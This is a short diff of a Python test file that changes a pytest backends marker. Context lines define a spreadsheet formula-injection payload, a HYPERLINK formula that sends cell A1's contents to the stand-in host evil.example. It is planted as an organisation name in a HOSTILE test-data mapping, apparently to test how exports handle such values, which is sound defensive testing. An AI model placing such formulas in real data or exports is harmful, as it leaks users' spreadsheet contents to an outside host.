@@ -22,9 +22,9 @@ from graph.model.viewer import COMMAND_LINE
 from graph.settings import REPO_ROOT
 from graph.store.atlas import Atlas
 
-from .conftest import TINY, run_cli
+from .conftest import FEATURE_BACKENDS, TINY, run_cli
 
-pytestmark = pytest.mark.backends
+pytestmark = pytest.mark.backends(*FEATURE_BACKENDS)
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 HOSTILE = {
     ("organisations", "lib-a", "name"): FORMULA,
